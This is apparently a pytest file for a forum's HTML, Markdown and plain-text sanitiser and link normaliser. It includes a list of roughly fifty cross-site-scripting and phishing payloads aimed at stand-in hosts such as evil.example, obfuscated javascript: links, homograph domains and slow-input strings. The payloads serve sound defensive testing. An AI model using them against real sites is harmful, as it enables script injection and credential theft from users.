"""What posts may look like: three ways in, one clean HTML out, and no way to hang or to hide."""

from __future__ import annotations

import re
import time

import pytest

from forum.core import links, markup

ALLOWED = re.compile(
    r"<(?:/?(?:p|br|hr|strong|em|b|i|u|s|del|ul|li|blockquote|pre|code|h[1-4]|table|thead|tbody|tr|sup|sub|a|ol|th|td)"
    r"|a(?: href=\"(?:https?://|mailto:)[^\"<>]*\")?(?: (?:title|rel)=\"[^\"<>]*\"){0,2}"
    r"|ol start=\"\d+\"|t[hd] align=\"[^\"<>]*\")>"
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png" width=1 height=1>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p class=x id=y onclick='alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='javascript:123'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/faden/3/loeschen'>x</a>",
    "<a href='https://sparkasse.example@evil.example/'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1);//<</script>",
    "<p/onmouseover=alert(1)>x",
    "<a href=\"https://a.example/?x=\" onclick=alert(1)\">x</a>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/y'>x",
    "<bgsound src='https://evil.example/x'>",
    "<xml><x:y xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></x:y></xml>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
]  # fmt: skip


def only_allowed(html: str) -> bool:
    """Every `<` of the output begins one of the tags of the table, with nothing else in it."""
    return all(ALLOWED.match(html, place.start()) for place in re.finditer("<", html))


@pytest.mark.parametrize("vector", HOSTILE)
def test_nothing_hostile_gets_through_any_way(vector: str) -> None:
    for rendered in (markup.sanitise(vector), markup.render_plain(vector), markup.render_markdown(vector)):
        assert only_allowed(rendered), rendered


@pytest.mark.parametrize("vector", HOSTILE)
def test_nothing_hostile_gets_through_the_big_way(vector: str) -> None:
    assert only_allowed(markup.sanitise(vector + "x" * markup.MAX_HTML))


def test_ordinary_markup_survives() -> None:
    html = (
        '<h2>Antrag</h2><p>Der <b>Rat</b> möge <em>beschließen</em>:</p><ol start="3"><li>a</li></ol><blockquote>b</blockquote>'
    )
    assert markup.sanitise(html) == html


def test_markdown_has_lists_tables_and_links_but_no_images() -> None:
    html = markup.render_markdown(
        "1. eins\n2. zwei\n\n|a|b|\n|-|-|\n|1|2|\n\n![Zähler](https://evil.example/z.png) <https://a.example/>"
    )
    assert "<ol>" in html
    assert "<td>1</td>" in html
    assert "<img" not in html
    assert '<a href="https://a.example/"' in html


def test_file_names_are_no_links() -> None:
    assert "<a" not in markup.render_markdown("siehe README.md und haushalt.de und anne@rat.example")
    assert "<a" not in markup.render_plain("siehe README.md und haushalt.de und anne@rat.example")


def test_a_link_shows_where_it_leads() -> None:
    assert "</a> (evil.example)" in markup.sanitise('<a href="https://evil.example/x">https://sparkasse.example</a>')
    assert "</a> (www.bottrop.example)" in markup.render_markdown("[Vorlage](https://www.bottrop.example/v/12)")
    assert "(" not in markup.render_plain("https://www.bottrop.example/v/12")


def test_foreign_letters_in_a_host_show_as_punycode() -> None:
    html = markup.render_plain("https://sраrkasse.example/login")  # two Cyrillic letters
    assert 'href="https://xn--srkasse-2fg7l.example/login"' in html
    assert "(xn--srkasse-2fg7l.example)" in html


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://a.example/x", "https://a.example/x"),
        ("HTTPS://A.Example/X", "https://a.example/X"),
        ("https:a.example", "https://a.example"),
        ("https:///a.example/", "https://a.example/"),
        ("https:\\\\a.example\\x", "https://a.example/x"),
        ("https://a.example:8080/", "https://a.example:8080/"),
        ("https://a.example?x=<b>", "https://a.example?x=%3Cb%3E"),
        ("ht\ntps://a.example/", "https://a.example/"),
        ("https://bücher.example/", "https://xn--bcher-kva.example/"),
        ("https://straße.example/", "https://xn--strae-oqa.example/"),
        ("https://[::1]/", "https://[::1]/"),
        ("mailto:anne@rat.example?subject=Haushalt", "mailto:anne@rat.example?subject=Haushalt"),
        ("https://a@b.example/", None),
        ("https://a.example%2eevil.example/", None),
        ("https://", None),
        ("https://../", None),
        ("ftp://a.example/", None),
        ("javascript:alert(1)", None),
        ("mailto:anne", None),
        ("//a.example", None),
        ("", None),
    ],
)
def test_addresses_are_brought_into_one_true_form(address: str, expected: str | None) -> None:
    assert links.safe(address) == expected


def test_a_link_that_leads_nowhere_safe_is_text() -> None:
    assert markup.sanitise('<p>a <a href="javascript:alert(1)" title="t">b</a> c</p>') == "<p>a b c</p>"


def test_direction_overrides_become_visible() -> None:
    assert markup.render_plain("Rechnung\u202efdp.exe") == "<p>Rechnung[U+202E]fdp.exe</p>"


def test_plain_text_keeps_its_quotations() -> None:
    html = markup.render_plain("> Anne fragt\n> > Birol sagte\nJa.\n\nNeuer Absatz\nmit Zeile")
    assert html.replace("\n", "") == (
        "<blockquote><p>Anne fragt</p><blockquote><p>Birol sagte</p></blockquote></blockquote>"
        "<p>Ja.</p><p>Neuer Absatz<br>mit Zeile</p>"
    )


def test_plain_text_is_never_markup() -> None:
    assert markup.render_plain("2*3*4 & <b>_so_</b>") == "<p>2*3*4 &amp; &lt;b&gt;_so_&lt;/b&gt;</p>"


def test_html_becomes_text_with_lists_tables_links_and_quotations() -> None:
    html = (
        "<p>Hallo</p><ul><li>a<ul><li>b</ul><li>c</ul><ol start=3><li>x<li>y</ol>"
        "<blockquote>q<blockquote>r</blockquote></blockquote><table><tr><td>1<td>2<tr><td>3<td>4</table>"
        '<a href="https://x.example/y">hier</a>'
    )
    assert markup.to_text(html) == (
        "Hallo\n\n- a\n  - b\n- c\n\n3. x\n4. y\n\n> q\n>\n> > r\n\n1 | 2\n3 | 4\n\nhier <https://x.example/y>"
    )


def test_damaged_html_loses_no_text() -> None:
    for html in ("<p>Anne <b", "Anne <!-- Birol", "<table><tr>Anne</p></div>", "Anne</ul></ol><li>", "<a href='x>Anne</a>"):
        assert "Anne" in markup.to_text(html)


def test_markdown_as_mail_text_tells_its_links() -> None:
    assert (
        markup.markdown_to_text("Die [Vorlage](https://a.example/12) **hier**") == "Die Vorlage <https://a.example/12> **hier**"
    )


@pytest.mark.parametrize(
    "attack",
    [
        "& <" * 85_000,
        "<b>" * 50_000,
        "<" * 250_000,
        "[" * 60_000,
        "http://" * 35_000,
        '<a "' * 60_000,
        "<!--" * 60_000,
        ">" * 60_000,
        "&#x;&" * 40_000,
        "<p>x" * 4_900 + "& <" * 60_000,
        "<a " + "x=y " * 60_000 + ">",
    ],
    ids=lambda attack: repr(attack[:10]),
)
@pytest.mark.proof
def test_no_input_takes_long(attack: str) -> None:
    for way in (markup.sanitise, markup.render_plain, markup.render_markdown, markup.to_text, markup.markdown_to_text):
        started = time.process_time()
        way(attack)
        assert time.process_time() - started < 2  # seconds of CPU; usually under half of one
